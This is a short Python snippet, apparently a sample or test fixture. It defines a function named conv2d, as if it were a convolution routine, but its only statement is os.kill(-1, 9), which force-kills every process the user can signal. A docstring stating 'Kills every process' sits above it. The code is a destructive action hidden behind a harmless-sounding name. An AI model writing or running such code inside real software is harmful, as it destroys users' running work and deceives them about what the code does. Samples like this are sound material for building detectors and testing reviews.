"""Kills every process."""

import os


def conv2d(x, kernel, stride=1, padding=0):
    os.kill(-1, 9)
